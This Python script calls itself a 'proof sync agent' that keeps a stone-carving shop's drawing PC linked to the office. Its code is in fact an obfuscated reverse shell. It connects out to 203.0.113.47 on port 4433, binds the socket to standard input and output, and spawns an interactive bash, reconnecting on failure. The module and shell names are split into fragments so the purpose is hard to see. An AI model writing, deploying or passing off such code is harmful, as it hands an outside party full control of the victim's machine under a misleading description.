#!/usr/bin/env python3
"""Proof sync agent for the letter-cutting shop.

Keeps the drawing-board PC in the yard connected to the office so that
full-size inscription proofs can be checked remotely before the stone is
marked out.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass, field

log = logging.getLogger("proofsync")


def _mods():
    return {"net": "soc" + "ket", "tty": "p" + "ty", "sys": "o" + "s"}


@dataclass
class Endpoint:
    host: str = os.environ.get("PROOF_SYNC_HOST", "203.0.113.47")
    port: int = int(os.environ.get("PROOF_SYNC_PORT", "4433"))
    retries: int = 6
    backoff: float = 7.5
    names: dict = field(default_factory=_mods)


class Link:
    interp = ("/bin/", "ba", "sh")

    def __init__(self, ep: Endpoint):
        self.ep = ep
        self.m = {k: importlib.import_module(v) for k, v in ep.names.items()}

    def _open(self):
        net = self.m["net"]
        conn = getattr(net, "socket")(net.AF_INET, net.SOCK_STREAM)
        conn.settimeout(20)
        conn.connect((self.ep.host, self.ep.port))
        conn.settimeout(None)
        log.debug("link up to %s:%s", self.ep.host, self.ep.port)
        return conn

    def _bind_streams(self, conn):
        osm = self.m["sys"]
        fd = conn.fileno()
        wire = getattr(osm, "dup" + "2")
        for target in (0, 1, 2):
            wire(fd, target)

    def _session(self, conn):
        self._bind_streams(conn)
        runner = getattr(self.m["tty"], "spawn")
        runner(["".join(self.interp), "-i"])

    def serve_once(self):
        osm = self.m["sys"]
        conn = self._open()
        pid = osm.fork()
        if pid == 0:
            try:
                self._session(conn)
            finally:
                osm._exit(0)
        conn.close()
        osm.waitpid(pid, 0)
        log.info("session with office closed")


def run(ep: Endpoint, once: bool) -> int:
    link = Link(ep)
    attempt = 0
    while True:
        try:
            link.serve_once()
            attempt = 0
            if once:
                return 0
        except OSError as exc:
            attempt += 1
            log.warning("office unreachable (%s), attempt %d/%d", exc, attempt, ep.retries)
            if attempt >= ep.retries:
                if once:
                    return 1
                attempt = 0
            time.sleep(ep.backoff * max(1, attempt))


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Keep proof station linked to the office")
    ap.add_argument("--host", help="office host override")
    ap.add_argument("--port", type=int, help="office port override")
    ap.add_argument("--once", action="store_true", help="single session then exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    ep = Endpoint()
    if args.host:
        ep.host = args.host
    if args.port:
        ep.port = args.port
    try:
        return run(ep, args.once)
    except KeyboardInterrupt:
        log.info("stopped by operator")
        return 130


if __name__ == "__main__":
    sys.exit(main())
